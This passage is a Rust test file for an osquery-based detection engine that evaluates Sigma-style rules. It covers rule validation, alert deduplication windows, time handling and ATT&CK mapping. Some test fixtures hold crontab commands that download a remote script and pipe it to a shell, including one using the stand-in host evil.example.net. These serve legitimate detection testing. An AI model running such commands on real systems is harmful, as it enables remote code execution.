use std::sync::Arc;

use rsigma_eval::event::JsonEvent;
use rsigma_eval::Engine;
use serde_json::{json, Value};

use super::gate::RunMemo;
use super::*;
use crate::alert::{Alert, TimeFrom};
use crate::attack::TechniqueRef;
use crate::config::Config;
use crate::derive::Derived;
use crate::event::{Action, Event, Indicators, Kind, SourceRef};
use crate::rules::detector::{Detector, Outcome};

/// A rule file with sensible defaults; `detection` and `extra` are YAML fragments.
pub(crate) fn rule_yaml(name: &str, id_suffix: u32, detection: &str, extra: &str) -> String {
    format!(
        r#"title: Test rule {name}
id: 00000000-0000-4000-8000-{id_suffix:012}
name: {name}
status: test
description: test
tags: [attack.execution, attack.t1059.004]
logsource: {{product: osquery}}
detection:
{detection}
level: high
tripline:
  title: "{name} on {{host}}"
  dedup: [host]
  window: 1h
{extra}"#
    )
}

pub(crate) fn event(query: &str, columns: Value, t: i64) -> Event {
    Event {
        kind: Kind::Result,
        name: Some(format!("pack/test/{query}")),
        pack: Some("test".into()),
        query: Some(query.into()),
        tables: Default::default(),
        tables_from: None,
        tables_ambiguous: false,
        host: Some("h1".into()),
        action: Some(crate::event::Action::Added),
        columns: columns.as_object().map(Into::into).unwrap_or_default(),
        decorations: Default::default(),
        time: Some(crate::rfc3339::format(t)),
        unix_time: Some(t),
        epoch: Some(0),
        counter: Some(2),
        numerics: false,
        severity: None,
        filename: None,
        line: None,
        message: None,
        version: None,
        source: SourceRef::default(),
        id: format!("ev-{t}"),
        indicators: Indicators::default(),
        attack: Default::default(),
    }
}

pub(crate) fn set(rules: &[String]) -> RuleSet {
    RuleSet::from_sources(
        rules
            .iter()
            .enumerate()
            .map(|(i, r)| (if i == 0 { "a.yml" } else { "b.yml" }, r.as_str())),
    )
    .unwrap_or_else(|e| panic!("{e}"))
}

fn detector(rules: &[String]) -> Detector {
    Detector::new(set(rules), None, Config::default())
}

pub(crate) const T0: i64 = 1_714_564_800; // 2024-05-01T12:00:00Z, on an hour boundary

#[test]
fn rsigma_numeric_and_string_forms() {
    // What rsigma does on its own, without our normalization: plain values already match
    // across forms, which this test pins so an rsigma upgrade cannot change it unnoticed.
    let yaml = |v: &str| {
        format!(
            "title: t\nid: 00000000-0000-4000-8000-000000000001\nlogsource: {{product: x}}\n\
             detection:\n  sel:\n    port: {v}\n  condition: sel\nlevel: low\n"
        )
    };
    for rule_value in ["22", "'22'"] {
        let mut engine = Engine::new();
        engine
            .add_collection(&rsigma_parser::parse_sigma_yaml(&yaml(rule_value)).unwrap())
            .unwrap();
        for ev in [json!({"port": 22}), json!({"port": "22"})] {
            assert_eq!(
                engine.evaluate(&JsonEvent::borrow(&ev)).len(),
                1,
                "rule {rule_value} vs {ev}"
            );
        }
    }
    // ...but a u64 beyond i64 reaches rsigma as a lossy float and misses its exact text.
    let mut engine = Engine::new();
    engine
        .add_collection(&rsigma_parser::parse_sigma_yaml(&yaml("'18446744073709551615'")).unwrap())
        .unwrap();
    let ev = json!({"port": 18446744073709551615u64});
    assert_eq!(engine.evaluate(&JsonEvent::borrow(&ev)).len(), 0);
}

#[test]
fn numeric_and_string_columns_match_alike() {
    let rules = set(&[
        rule_yaml(
            "port_number",
            1,
            "  sel:\n    query: listening_ports\n    columns.port: 22\n  condition: sel",
            "",
        ),
        rule_yaml(
            "port_string",
            2,
            "  sel:\n    query: listening_ports\n    columns.port: '22'\n  condition: sel",
            "",
        ),
    ]);
    let d = Derived::default();
    for port in [json!(22), json!("22")] {
        let ev = event("listening_ports", json!({"port": port}), T0);
        assert_eq!(
            rules.matching(&EventView::new(&ev, &d)),
            vec![0, 1],
            "{port}"
        );
    }
    let ev = event("listening_ports", json!({"port": 2222}), T0);
    assert!(rules.matching(&EventView::new(&ev, &d)).is_empty());

    // Large unsigned integers and keyword searches see the logged text too.
    let big = set(&[rule_yaml(
        "big_inode",
        3,
        "  sel:\n    columns.inode: '18446744073709551615'\n  condition: sel",
        "",
    )]);
    let ev = event("file", json!({"inode": 18446744073709551615u64}), T0);
    assert_eq!(big.matching(&EventView::new(&ev, &d)), vec![0]);
    let kw = set(&[rule_yaml(
        "keyword_port",
        4,
        "  keywords:\n    - '4444'\n  condition: keywords",
        "",
    )]);
    let ev = event("process_open_sockets", json!({"remote_port": 4444}), T0);
    assert_eq!(kw.matching(&EventView::new(&ev, &d)), vec![0]);
    // The flat JSON rendering of the view matches the same way.
    let flat = eval_view(&ev, &d);
    assert_eq!(kw.matching(&JsonEvent::borrow(&flat)), vec![0]);
}

#[test]
fn derived_fields_are_matchable() {
    let rules = set(&[rule_yaml(
        "aws_cli",
        1,
        "  sel:\n    derived.program: aws\n  condition: sel",
        "",
    )]);
    let mut det = Detector::new(rules, None, Config::default());
    let out = det.observe(&mut event(
        "shell_history",
        json!({"command": "sudo /usr/local/bin/aws s3 ls", "time": T0}),
        T0,
    ));
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].outcome, Outcome::Counted);
    let report = det.finish();
    assert_eq!(report.alerts.len(), 1);
    let sample = report.alerts[0].samples[0].to_value();
    assert_eq!(sample["derived"]["program"], "aws");
}

#[test]
fn validation_reports_every_problem() {
    let bad = r#"title: Bad
id: not-a-uuid
name: BadName
tags: [attack.t9999, attack.not_a_tactic, attack.t1059.004, cve.2024.1234]
logsource: {product: osquery}
detection:
  sel:
    colums.command|contains: x
  condition: sel
tripline:
  title: "Bad {columns.command} {derived.nope}"
  dedup: [host, hots]
  window: 24x
  threshold: 0
  extra_key: 1
"#;
    let err = RuleSet::from_sources([("rules/bad.yml", bad)]).unwrap_err();
    let msg = err.to_string();
    for want in [
        "rules/bad.yml",
        "name: \"BadName\" is not snake_case",
        "id: \"not-a-uuid\" is not a UUID",
        "level: missing",
        "attack.t9999",
        "attack.not_a_tactic",
        "colums.command",
        "extra_key",
    ] {
        assert!(msg.contains(want), "missing {want:?} in:\n{msg}");
    }
    assert!(
        !msg.contains("cve.2024"),
        "non-ATT&CK tags are allowed:\n{msg}"
    );

    let bad_block = rule_yaml("x_rule", 1, "  sel:\n    query: a\n  condition: sel", "")
        .replace("window: 1h", "window: 24x\n  storm: -3")
        .replace("dedup: [host]", "dedup: [host, hots]")
        .replace("{host}", "{derived.nope}");
    let msg = RuleSet::from_sources([("x_rule.yml", bad_block.as_str())])
        .unwrap_err()
        .to_string();
    for want in [
        "tripline.window",
        "24x",
        "tripline.dedup",
        "hots",
        "tripline.title",
        "derived.nope",
        "tripline.storm: must be a count of alerts (0 turns storm control off), got -3",
    ] {
        assert!(msg.contains(want), "missing {want:?} in:\n{msg}");
    }

    let no_block = "title: t\nid: 00000000-0000-4000-8000-000000000001\nname: nb\nlevel: low\n\
        logsource: {product: osquery}\ndetection:\n  sel:\n    query: a\n  condition: sel\n";
    let msg = RuleSet::from_sources([("nb.yml", no_block)])
        .unwrap_err()
        .to_string();
    assert!(msg.contains("tripline"), "{msg}");
}

#[test]
fn duplicate_names_and_ids() {
    let a = rule_yaml("same", 1, "  sel:\n    query: a\n  condition: sel", "");
    let b = rule_yaml("same", 1, "  sel:\n    query: b\n  condition: sel", "");
    let msg = RuleSet::from_sources([("a.yml", a.as_str()), ("b.yml", b.as_str())])
        .unwrap_err()
        .to_string();
    assert!(msg.contains("duplicate rule name"), "{msg}");
    assert!(msg.contains("duplicate rule id"), "{msg}");
}

#[test]
fn revoked_technique_is_resolved_with_warning() {
    // T1169 (Sudo) was revoked by T1548.003.
    let r = rule_yaml("sudo_rule", 1, "  sel:\n    query: a\n  condition: sel", "")
        .replace("attack.t1059.004", "attack.t1169");
    let rules = RuleSet::from_sources([("sudo_rule.yml", r.as_str())]).unwrap();
    assert_eq!(rules.rules()[0].techniques[0].id, "T1548.003");
    assert!(rules.warnings().iter().any(|w| w.message.contains("T1169")));
    assert_eq!(rules.rules()[0].tactics, vec!["execution".to_string()]);
}

/// A rule that knows its rows only by query (or logged) name is warned about; one that also
/// selects on `tables`, or on `pack` (a pack whose rows are the finding), is not.
#[test]
fn query_name_without_a_table_is_warned_about() {
    let warned = |detection: &str| {
        let r = rule_yaml("r", 1, detection, "");
        let rules =
            RuleSet::from_sources([("r.yml", r.as_str())]).unwrap_or_else(|e| panic!("{e}"));
        rules.warnings().iter().any(|w| {
            w.message
                .contains("selects on a query name without a table")
        })
    };
    assert!(warned("  sel:\n    query: crontab\n  condition: sel"));
    assert!(warned(
        "  sel:\n    name|endswith: _crontab\n    columns.command: x\n  condition: sel"
    ));
    assert!(!warned("  sel:\n    tables: crontab\n  condition: sel"));
    assert!(!warned(
        "  sel:\n    query: crontab\n  t:\n    tables: crontab\n  condition: sel or t"
    ));
    assert!(!warned(
        "  p:\n    pack: osx-attacks\n  q:\n    query: Keylogger\n  condition: p or q"
    ));
    assert!(!warned("  sel:\n    columns.command: x\n  condition: sel"));
    let r = rule_yaml("r", 1, "  sel:\n    query: crontab\n  condition: sel", "");
    let rules = RuleSet::from_sources([("r.yml", r.as_str())]).unwrap();
    let w = rules.warnings()[0].to_string();
    assert_eq!(
        w,
        "r.yml:8 (r): detection: rule r selects on a query name without a table: rows from that \
         table under other query names will not match (select on `tables`, or on `pack` when \
         the pack's rows are themselves the finding)"
    );
}

#[test]
fn dedup_window_threshold() {
    let rules = [rule_yaml(
        "cron_x",
        1,
        "  sel:\n    query: crontab\n  condition: sel",
        "  threshold: 2",
    )
    .replace("dedup: [host]", "dedup: [host, columns.command]")];
    let mut det = detector(&rules);
    // Window [T0, T0+1h): two matching events with the same key, one with another key.
    det.observe(&mut event("crontab", json!({"command": "a"}), T0 + 10));
    det.observe(&mut event("crontab", json!({"command": "a"}), T0 + 20));
    det.observe(&mut event("crontab", json!({"command": "b"}), T0 + 30));
    // Next window: same key, alone, below threshold.
    det.observe(&mut event("crontab", json!({"command": "a"}), T0 + 3600));
    let report = det.finish();
    assert_eq!(report.stats.events, 4);
    assert_eq!(report.stats.matches, 4);
    assert_eq!(report.stats.below_threshold, 2);
    assert_eq!(report.alerts.len(), 1);
    let a = &report.alerts[0];
    assert_eq!(a.count, 2);
    assert_eq!(a.dedup.values, vec![json!("h1"), json!("a")]);
    assert_eq!(a.dedup.window_start, "2024-05-01T12:00:00Z");
    assert_eq!(a.first_seen, "2024-05-01T12:00:10Z");
    assert_eq!(a.last_seen, "2024-05-01T12:00:20Z");
    assert_eq!(a.hosts, vec!["h1".to_string()]);
    assert_eq!(a.title, "cron_x on h1");
    assert_eq!(a.attack[0].id, "T1059.004");
    assert!(a.attack[0]
        .url
        .as_deref()
        .unwrap_or("")
        .contains("T1059/004"));
    assert_eq!(a.severity, Level::High);
}

#[test]
fn alert_id_is_stable_across_runs_and_forms() {
    let rules = [rule_yaml(
        "port_rule",
        1,
        "  sel:\n    query: listening_ports\n  condition: sel",
        "",
    )
    .replace("dedup: [host]", "dedup: [host, columns.port]")];
    let run = |port: Value, t: i64| {
        let mut det = detector(&rules);
        det.observe(&mut event("listening_ports", json!({"port": port}), t));
        det.finish().alerts.remove(0)
    };
    let a = run(json!(22), T0 + 5);
    // Same window, other process, numerics logged as strings: same id.
    assert_eq!(a.id, run(json!("22"), T0 + 3000).id);
    assert_ne!(a.id, run(json!(22), T0 + 3600).id);
    assert_eq!(
        a.id,
        crate::alert::alert_id("port_rule", &["\"h1\"".into(), "\"22\"".into()], T0)
    );
    // Pinned: a change here breaks alert upserts in deployed stores.
    assert_eq!(a.id, "01d0584c645d04a2");
}

pub(crate) fn crontab_rule(name: &str, id: u32, window: &str) -> String {
    rule_yaml(name, id, "  sel:\n    query: crontab\n  condition: sel", "")
        .replace("window: 1h", &format!("window: {window}"))
}

pub(crate) fn without_time(mut e: Event) -> Event {
    e.time = None;
    e.unix_time = None;
    e
}

#[test]
fn event_without_time_alerts_in_the_object_time_window() {
    // The object's time is 13:23:20, in the window that starts at 13:00.
    let object_time = T0 + 5000;
    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(object_time);
    let out = det.observe(&mut without_time(event(
        "crontab",
        json!({"command": "x"}),
        T0,
    )));
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].outcome, Outcome::Counted);
    let report = det.finish();
    assert_eq!(report.stats.rule_errors, 0);
    assert_eq!(report.stats.matches, 1);
    assert_eq!(report.stats.matches_on_object_time, 1);
    let a = &report.alerts[0];
    assert_eq!(a.time_from, TimeFrom::Object);
    assert_eq!(a.dedup.window_start, "2024-05-01T13:00:00Z");
    assert_eq!(a.first_seen, "2024-05-01T13:23:20Z");
    assert_eq!(a.last_seen, a.first_seen);
    assert_eq!(
        a.id,
        crate::alert::alert_id("cron", &["\"h1\"".into()], T0 + 3600)
    );
    // Written as a lowercase word, and read back.
    let json = serde_json::to_value(a).unwrap();
    assert_eq!(json["time_from"], "object");
    assert_eq!(serde_json::from_value::<Alert>(json).unwrap(), *a);
}

#[test]
fn a_detector_without_an_object_time_uses_its_creation_time() {
    let before = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let mut det = detector(&[crontab_rule("cron", 1, "1s")]);
    let after = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    assert!((before..=after).contains(&det.object_time()));
    det.observe(&mut without_time(event(
        "crontab",
        json!({"command": "x"}),
        T0,
    )));
    let a = det.finish().alerts.remove(0);
    let placed = crate::rfc3339::parse(&a.dedup.window_start).unwrap();
    assert!(
        (before..=after).contains(&placed),
        "{}",
        a.dedup.window_start
    );
    assert_eq!(a.time_from, TimeFrom::Object);
}

#[test]
fn event_and_object_times_in_one_alert_are_mixed() {
    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0 + 5000);
    det.observe(&mut event("crontab", json!({"command": "x"}), T0 + 3700));
    det.observe(&mut without_time(event(
        "crontab",
        json!({"command": "x"}),
        T0,
    )));
    // Its own time puts this one in the window before: an alert of its own.
    det.observe(&mut event("crontab", json!({"command": "x"}), T0 + 10));
    let report = det.finish();
    assert_eq!(report.stats.matches, 3);
    assert_eq!(report.stats.matches_on_object_time, 1);
    assert_eq!(report.alerts.len(), 2);
    let (early, mixed) = (&report.alerts[0], &report.alerts[1]);
    assert_eq!(early.time_from, TimeFrom::Event);
    assert_eq!(early.count, 1);
    assert_eq!(mixed.time_from, TimeFrom::Mixed);
    assert_eq!(mixed.count, 2);
    assert_eq!(mixed.first_seen, "2024-05-01T13:01:40Z");
    assert_eq!(mixed.last_seen, "2024-05-01T13:23:20Z");
    assert_eq!(serde_json::to_value(mixed).unwrap()["time_from"], "mixed");
}

#[test]
fn times_no_alert_could_state_fall_back_to_the_object_time() {
    // Before 1970, milliseconds read as seconds (the year 56,000), the extremes.
    for t in [-1, 1_714_564_800_000, i64::MIN, i64::MAX] {
        let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0 + 5000);
        let out = det.observe(&mut event("crontab", json!({"command": "x"}), t));
        assert_eq!(out[0].outcome, Outcome::Counted, "{t}");
        let a = det.finish().alerts.remove(0);
        assert_eq!(a.time_from, TimeFrom::Object, "{t}");
        assert_eq!(a.dedup.window_start, "2024-05-01T13:00:00Z", "{t}");
    }
    // The last second RFC 3339 can write is still the event's own.
    let last = 253_402_300_799;
    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0);
    det.observe(&mut event("crontab", json!({"command": "x"}), last));
    let a = det.finish().alerts.remove(0);
    assert_eq!(a.time_from, TimeFrom::Event);
    assert_eq!(a.first_seen, "9999-12-31T23:59:59Z");
}

#[test]
fn an_rfc3339_time_alone_places_the_event() {
    let mut det = detector(&[crontab_rule("cron", 1, "1h")]).with_object_time(T0 + 5000);
    let mut e = without_time(event("crontab", json!({"command": "x"}), T0));
    e.time = Some("2024-05-01T12:00:30Z".into());
    det.observe(&mut e);
    let a = det.finish().alerts.remove(0);
    assert_eq!(a.time_from, TimeFrom::Event);
    assert_eq!(a.first_seen, "2024-05-01T12:00:30Z");
}

#[test]
fn rule_error_does_not_stop_other_rules() {
    // Only an object time no window can hold is a rule error, and only for a match whose
    // event has no usable time of its own. Just before 1970 is such a time.
    let mut det = detector(&[
        crontab_rule("hourly", 1, "1h"),
        crontab_rule("daily", 2, "1d"),
    ])
    .with_object_time(-1);
    let out = det.observe(&mut without_time(event(
        "crontab",
        json!({"command": "x"}),
        T0,
    )));
    assert_eq!(out.len(), 2);
    for o in &out {
        assert!(
            matches!(&o.outcome, Outcome::Error(m) if m.contains("object time -1 is out of range")),
            "{out:?}"
        );
    }
    // Later events are unaffected.
    det.observe(&mut event("crontab", json!({"command": "x"}), T0));
    let report = det.finish();
    assert_eq!(report.stats.events, 2);
    assert_eq!(report.stats.rule_errors, 2);
    assert_eq!(report.stats.rule_errors_by_rule["hourly"], 1);
    assert_eq!(report.stats.rule_errors_by_rule["daily"], 1);
    assert_eq!(report.stats.error_samples.len(), 2);
    let names: Vec<&str> = report.alerts.iter().map(|a| a.rule.name.as_str()).collect();
    assert_eq!(names, ["daily", "hourly"]);
    assert!(report.alerts.iter().all(|a| a.time_from == TimeFrom::Event));
}

#[test]
fn absent_dedup_field_keys_as_null() {
    let r = rule_yaml(
        "logins",
        1,
        "  sel:\n    query|endswith: users\n  condition: sel",
        "",
    )
    .replace(
        "dedup: [host]",
        "dedup: [host, columns.user, columns.username]",
    );
    let mut det = detector(&[r]);
    det.observe(&mut event("logged_in_users", json!({"user": "alice"}), T0));
    let a = det.finish().alerts.remove(0);
    assert_eq!(
        a.dedup.values,
        vec![json!("h1"), json!("alice"), Value::Null]
    );
}

#[test]
fn stale_and_initial_opt_ins() {
    let det_rules = [
        rule_yaml(
            "default_rule",
            1,
            "  sel:\n    query: shell_history\n  condition: sel",
            "",
        ),
        rule_yaml(
            "opt_rule",
            2,
            "  sel:\n    query: shell_history\n  condition: sel",
            "  stale: true\n  initial: false",
        ),
    ];
    let mut det = detector(&det_rules);
    // Stale: the row's own time is 2 days before the event time.
    let mut stale = event(
        "shell_history",
        json!({"command": "id", "time": T0 - 2 * 86_400}),
        T0,
    );
    let out = det.observe(&mut stale);
    assert_eq!(out[0].outcome, Outcome::SuppressedStale);
    assert_eq!(out[1].outcome, Outcome::Counted);
    // Initial: counter 0.
    let mut first = event("shell_history", json!({"command": "id", "time": T0}), T0);
    first.counter = Some(0);
    let out = det.observe(&mut first);
    assert_eq!(out[0].outcome, Outcome::Counted);
    assert_eq!(out[1].outcome, Outcome::SuppressedInitial);
    let stats = det.finish().stats;
    assert_eq!((stats.suppressed_stale, stats.suppressed_initial), (1, 1));
}

#[test]
fn deterministic_alert_order() {
    let rules = [
        rule_yaml("zeta", 1, "  sel:\n    query: q\n  condition: sel", ""),
        rule_yaml("alpha", 2, "  sel:\n    query: q\n  condition: sel", ""),
    ];
    let mut det = detector(&rules);
    for (h, t) in [("h2", T0 + 5), ("h1", T0 + 5), ("h3", T0 + 1)] {
        let mut e = event("q", json!({}), t);
        e.host = Some(h.into());
        det.observe(&mut e);
    }
    let names: Vec<String> = det
        .finish()
        .alerts
        .iter()
        .map(|a| format!("{}@{}", a.rule.name, a.hosts[0]))
        .collect();
    assert_eq!(names[..2], ["alpha@h3".to_string(), "zeta@h3".to_string()]);
    assert_eq!(names.len(), 6);
}

#[test]
fn testing_harness_reports_per_rule() {
    let rules = Arc::new(set(&[
        rule_yaml(
            "cron_curl",
            1,
            "  sel:\n    query: crontab\n    columns.command|contains: curl\n  condition: sel",
            "",
        ),
        rule_yaml(
            "untested",
            2,
            "  sel:\n    query: other\n  condition: sel",
            "",
        ),
    ]));
    let good = r#"
positive:
  - name: pack/tripline-linux/crontab
    columns: {command: "curl -s http://x | sh"}
negative:
  - query: crontab
    columns: {command: "/usr/sbin/logrotate"}
"#;
    let bad = r#"
positive:
  - query: crontab
    columns: {command: "wget x"}
negative:
  - query: crontab
    columns: {command: "curl y"}
  - query: crontab
    colums: {}
"#;
    let report = testing::run(
        &rules,
        None,
        &[
            ("tests/cron_curl.yml".into(), good.into()),
            ("tests/ghost.yml".into(), good.into()),
        ],
    );
    assert!(!report.passed());
    assert_eq!(report.orphans.len(), 1, "{:?}", report.orphans);
    let cron = &report.rules[0];
    assert_eq!(cron.rule, "cron_curl");
    assert!(cron.passed(), "{:?}", cron.failures);
    assert_eq!((cron.positives, cron.negatives), (1, 1));
    assert!(report.rules[1].failures[0].contains("no test file"));

    let report = testing::run(&rules, None, &[("tests/cron_curl.yml".into(), bad.into())]);
    let f = &report.rules[0].failures;
    assert!(f[0].contains("colums"), "{f:?}");
    let report = testing::run(
        &rules,
        None,
        &[(
            "cron_curl.yml".into(),
            bad.replace("  - query: crontab\n    colums: {}\n", ""),
        )],
    );
    let f = &report.rules[0].failures;
    assert!(
        f.iter()
            .any(|m| m.contains("positive #1") && m.contains("did not match")),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|m| m.contains("negative #1") && m.contains("fired")),
        "{f:?}"
    );
}

#[test]
fn a_rule_test_event_without_time_fires() {
    let rules = Arc::new(set(&[rule_yaml(
        "cron_curl",
        1,
        "  sel:\n    query: crontab\n    columns.command|contains: curl\n  condition: sel",
        "",
    )]));
    let file = r#"
positive:
  - query: crontab
    columns: {command: "curl -s http://evil.example.net/x.sh | sh"}
    time: null
negative:
  - query: crontab
    columns: {command: "/usr/sbin/logrotate"}
    time: ~
"#;
    let report = testing::run(&rules, None, &[("tests/cron_curl.yml".into(), file.into())]);
    assert!(report.passed(), "{:?}", report.rules[0].failures);
    assert_eq!(
        (report.rules[0].positives, report.rules[0].negatives),
        (1, 1)
    );

    // `time: null` is no time, an absent `time` the default one.
    #[derive(serde::Deserialize)]
    struct File {
        positive: Vec<testing::TestEvent>,
    }
    let no_time: File = yaml_serde::from_str(file).unwrap();
    let e = no_time.positive[0].to_event("e").unwrap();
    assert_eq!((e.unix_time, e.time), (None, None));
    let default: File = yaml_serde::from_str(&file.replace("    time: null\n", "")).unwrap();
    let e = default.positive[0].to_event("e").unwrap();
    assert_eq!(e.unix_time, Some(testing::DEFAULT_TEST_TIME));
}

#[test]
fn builtin_pack_loads_and_passes_its_tests() {
    if builtin::SIGMA_RULES.is_empty() {
        return; // content not written yet
    }
    let rules = Arc::new(RuleSet::builtin().unwrap_or_else(|e| panic!("{e}")));
    let mapper = Arc::new(crate::mapping::Mapper::builtin().unwrap());
    let report = testing::run(&rules, Some(mapper), &testing::builtin_sources());
    let failures: Vec<String> = report
        .rules
        .iter()
        .flat_map(|r| r.failures.iter().map(move |f| format!("{}: {f}", r.rule)))
        .chain(report.orphans.iter().cloned())
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Each event gets its own names' techniques, whatever the events before it were named.
#[test]
fn annotate_follows_changing_names() {
    let mapper = Arc::new(crate::mapping::Mapper::builtin().unwrap());
    let rules = set(&[rule_yaml(
        "cron",
        1,
        "  a:\n    query: crontab\n  condition: a",
        "",
    )]);
    let mut detector = Detector::new(rules, Some(Arc::clone(&mapper)), Config::default());
    let names = [
        (Some("test"), "crontab", "pack/test/crontab"),
        (Some("test"), "crontab", "pack/test/crontab"),
        (Some("test"), "shell_history", "pack/test/shell_history"),
        (Some("test"), "users", "pack/test/users"),
        (Some("test"), "crontab", "pack/test/crontab"),
        (None, "crontab", "crontab"),
        (None, "crontab", "pack_x_crontab"),
        (Some("osx-attacks"), "crontab", "pack/osx-attacks/crontab"),
        (Some("test"), "shell_history", "pack/test/shell_history"),
    ];
    let mut kinds = std::collections::BTreeSet::new();
    for (pack, query, name) in names {
        let mut ev = event(query, json!({}), T0);
        ev.pack = pack.map(Into::into);
        ev.name = Some(name.into());
        detector.annotate(&mut ev);
        let got: Vec<&str> = ev.attack.iter().map(|t| t.id.as_str()).collect();
        let want = mapper.techniques_uncached(pack, query, name);
        let want: Vec<&str> = want.iter().map(|t| t.id.as_str()).collect();
        assert_eq!(got, want, "{pack:?} {query} {name}");
        kinds.insert(want.join(","));
    }
    // The names map to different techniques, so a stale answer would show.
    assert!(kinds.len() >= 3, "{kinds:?}");
}

#[test]
fn window_parse() {
    assert_eq!(Window::parse("24h").unwrap().seconds, 86_400);
    assert_eq!(Window::parse("30m").unwrap().seconds, 1800);
    assert_eq!(Window::parse("7d").unwrap().to_string(), "7d");
    assert_eq!(Window::parse("24h").unwrap().to_string(), "24h");
    assert_eq!(Window::parse("90s").unwrap().to_string(), "90s");
    for bad in ["", "0h", "h", "10", "10w", "-1h", "400d", "1.5h"] {
        assert!(Window::parse(bad).is_err(), "{bad}");
    }
    let w = Window::parse("1h").unwrap();
    assert_eq!(w.start(T0 + 3599), Some(T0));
    assert_eq!(w.start(-1), Some(-3600));
    assert_eq!(w.start(i64::MIN), None);
    assert_eq!(Window::parse("1s").unwrap().start(i64::MIN), Some(i64::MIN));
}

#[test]
fn level_parse_and_order() {
    assert!(Level::High > Level::Medium);
    assert_eq!("HIGH".parse::<Level>().unwrap(), Level::High);
    assert_eq!("info".parse::<Level>().unwrap(), Level::Informational);
    assert!("severe".parse::<Level>().is_err());
}

#[test]
fn zero_copy_view_matches_like_json_view_on_builtin_tests() {
    #[derive(serde::Deserialize)]
    struct File {
        #[serde(default)]
        positive: Vec<testing::TestEvent>,
        #[serde(default)]
        negative: Vec<testing::TestEvent>,
    }
    if builtin::SIGMA_RULES.is_empty() {
        return;
    }
    let rules = RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"));
    let config = Config::default();
    let mut checked = 0;
    for (name, text) in builtin::RULE_TESTS {
        let Ok(f) = yaml_serde::from_str::<File>(text) else {
            continue;
        };
        for te in f.positive.iter().chain(&f.negative) {
            let Ok(ev) = te.to_event(name) else { continue };
            let d = crate::derive::derive(&ev, &config);
            let flat = eval_view(&ev, &d);
            let view = EventView::new(&ev, &d);
            let by_json = rules.matching(&JsonEvent::borrow(&flat));
            assert_eq!(rules.matching(&view), by_json, "{name}: {flat}");
            let fresh = rules.matching_view(&view, &mut RunMemo::default());
            assert_eq!(fresh, by_json, "{name}: {flat}");
            checked += 1;
        }
    }
    assert!(checked > 0);
}

/// Every event of the built-in rule tests, also moved to every other test's query, pack and
/// action (and with its query upper-cased), so each gate meets rows it must admit and rows
/// it may reject.
fn builtin_test_events_and_variants() -> Vec<Event> {
    #[derive(serde::Deserialize)]
    struct File {
        #[serde(default)]
        positive: Vec<testing::TestEvent>,
        #[serde(default)]
        negative: Vec<testing::TestEvent>,
    }
    let mut base = Vec::new();
    for (name, text) in builtin::RULE_TESTS {
        let Ok(f) = yaml_serde::from_str::<File>(text) else {
            continue;
        };
        for te in f.positive.iter().chain(&f.negative) {
            if let Ok(ev) = te.to_event(name) {
                base.push(ev);
            }
        }
    }
    let shapes: std::collections::BTreeSet<(Option<String>, Option<String>)> = base
        .iter()
        .map(|e| (e.pack.clone(), e.query.clone()))
        .collect();
    let mut out = base.clone();
    for ev in &base {
        for (pack, query) in &shapes {
            let mut v = ev.clone();
            v.pack = pack.clone();
            v.query = query.clone();
            out.push(v);
        }
        for action in [
            None,
            Some(Action::Added),
            Some(Action::Removed),
            Some(Action::Snapshot),
        ] {
            let mut v = ev.clone();
            v.action = action;
            out.push(v);
        }
        let mut v = ev.clone();
        v.query = v.query.map(|q| q.to_uppercase());
        v.pack = None;
        out.push(v);
    }
    out
}

#[test]
fn gates_agree_with_the_engine_on_builtin_tests() {
    if builtin::SIGMA_RULES.is_empty() {
        return;
    }
    let rules = RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"));
    let config = Config::default();
    let mut fired = 0;
    let mut memo = RunMemo::default();
    for ev in builtin_test_events_and_variants() {
        for d in [
            crate::derive::derive(&ev, &config),
            Derived {
                program: Some("aws".into()),
                platform: Some(crate::derive::Platform::Linux),
                osquery_outdated: Some(true),
                macos_unsupported: Some(true),
                remote_outside_office: Some(true),
                stale: true,
                initial: true,
                ioc: Some(Box::new(crate::ioc::IocHit {
                    value: "a.evil.example".into(),
                    kind: crate::ioc::IocType::Domain,
                    indicator: "evil.example".into(),
                    list: "advisory".into(),
                    name: None,
                    hits: 1,
                })),
            },
        ] {
            let view = EventView::new(&ev, &d);
            let gated = rules.matching(&view);
            assert_eq!(gated, rules.matching_ungated(&view), "{ev:?}");
            // One memory across every event, as a detector keeps it.
            assert_eq!(rules.matching_view(&view, &mut memo), gated, "{ev:?}");
            fired += gated.len();
        }
    }
    assert!(fired > 0);
    // Every built-in rule has a gate; an open one would be evaluated on every event.
    assert_eq!(rules.open_gates(), Vec::<&str>::new());
}

/// A row of a table no rule names, without the columns and derived fields rules look for,
/// has no gate to test: no built-in rule is filed under `action`, which nearly every row
/// has, even those whose query condition is an OR of `pack` and `query`.
#[test]
fn unrelated_rows_have_no_candidate_gates() {
    let rules = RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"));
    let d = Derived::default();
    for action in [Action::Added, Action::Removed, Action::Snapshot] {
        let mut ev = event("unrelated_table", json!({"pid": "1", "uid": "0"}), T0);
        ev.action = Some(action);
        let view = EventView::new(&ev, &d);
        let lookups = gate::EventLookups::new(&view, &rules.gate_fields, None);
        assert_eq!(
            rules.gate_index.candidates(&lookups),
            Vec::<u32>::new(),
            "{action:?}"
        );
    }
}

/// A field with several values (`attack.id`) can equal several literals at once; each of
/// them admits the gates that name it.
#[test]
fn gates_see_every_value_of_a_list() {
    let rules = set(&[
        rule_yaml(
            "both",
            1,
            "  a:\n    attack.id: [T1059, t1053.003]\n  condition: a",
            "",
        ),
        rule_yaml(
            "second",
            2,
            "  a:\n    attack.id: T1053.003\n  condition: a",
            "",
        ),
        rule_yaml("other", 3, "  a:\n    attack.id: T9999\n  condition: a", ""),
    ]);
    let tag = |id: &str| TechniqueRef {
        id: id.into(),
        name: "x".into(),
        tactics: vec![],
        url: None,
    };
    let d = Derived::default();
    let cases = [
